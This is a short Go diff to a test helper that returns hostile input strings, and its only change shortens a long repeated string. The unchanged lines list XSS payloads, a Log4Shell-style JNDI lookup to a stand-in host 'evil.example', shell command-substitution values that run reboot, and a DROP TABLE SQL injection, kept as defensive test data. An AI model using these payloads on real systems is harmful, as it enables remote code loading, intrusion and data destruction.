@@ -28,7 +28,7 @@ func OneLine() []string {
 		"---", "</td><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "\" onmouseover=\"alert(1)", "\\", "\\|", "%s%d%n",
 		// A logger, a shell or a template takes these for its own.
 		"${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`", "'; DROP TABLE cases; --", "{{.Secret}}", "--force",
-		strings.Repeat("long ", 20_000),
+		strings.Repeat("long ", 7_000),
 	}
 }
 
